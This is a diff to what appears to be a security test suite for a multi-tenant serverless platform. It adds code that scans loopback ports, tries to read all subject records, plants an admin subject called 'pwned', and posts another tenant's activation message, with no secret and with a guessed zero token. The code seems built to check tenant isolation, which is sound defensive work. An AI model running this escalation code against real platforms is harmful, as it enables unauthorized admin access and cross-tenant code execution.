@@ -62,9 +62,33 @@ function forgeDynamo(port, operation, body) {
 }
 `;
 
-/** Scans 127.0.0.1, then tries to read every subject and to plant an admin subject on each open port. */
-export const SCAN_AND_FORGE_ACTION = `${SCAN_LOOPBACK}${FORGE_DYNAMO}
-async function main({ subjectsTable, forgedUuid, forgedKeyHash }) {
+/** Node code defining \`forgeDispatch(port, message, authorization)\`: posts an activation message as a controller would. */
+const FORGE_DISPATCH = `
+function forgeDispatch(port, message, authorization) {
+  const http = require('http');
+  return new Promise((resolve) => {
+    const data = JSON.stringify(message);
+    const headers = { 'content-type': 'application/json', 'content-length': Buffer.byteLength(data), ...(authorization ? { authorization } : {}) };
+    const req = http.request({ host: '127.0.0.1', port, path: '/activations', method: 'POST', timeout: 2000, headers }, (res) => {
+      let text = '';
+      res.setEncoding('utf8');
+      res.on('data', (c) => { if (text.length < 300) text += c; });
+      res.on('end', () => resolve({ status: res.statusCode, body: text.slice(0, 300) }));
+    });
+    req.on('timeout', () => req.destroy(new Error('timeout')));
+    req.on('error', (error) => resolve({ error: error.code || String(error.message) }));
+    req.end(data);
+  });
+}
+`;
+
+/**
+ * Scans 127.0.0.1, then on each open port tries to read every subject, to plant an admin subject,
+ * and to have an invoker run \`dispatch\` (an activation message of another tenant's action)
+ * without the dispatch secret and with a guessed one.
+ */
+export const SCAN_AND_FORGE_ACTION = `${SCAN_LOOPBACK}${FORGE_DYNAMO}${FORGE_DISPATCH}
+async function main({ subjectsTable, forgedUuid, forgedKeyHash, dispatch }) {
   const open = await scanLoopback(300, 200);
   const attempts = {};
   for (const port of open) {
@@ -74,6 +98,8 @@ async function main({ subjectsTable, forgedUuid, forgedKeyHash }) {
         TableName: subjectsTable,
         Item: { uuid: { S: forgedUuid }, keyHash: { S: forgedKeyHash }, subject: { S: 'pwned' }, namespace: { S: 'pwned' }, admin: { BOOL: true } },
       }),
+      dispatch: await forgeDispatch(port, dispatch),
+      dispatchGuessed: await forgeDispatch(port, dispatch, 'Bearer ' + '0'.repeat(64)),
     };
   }
   return { open, attempts };
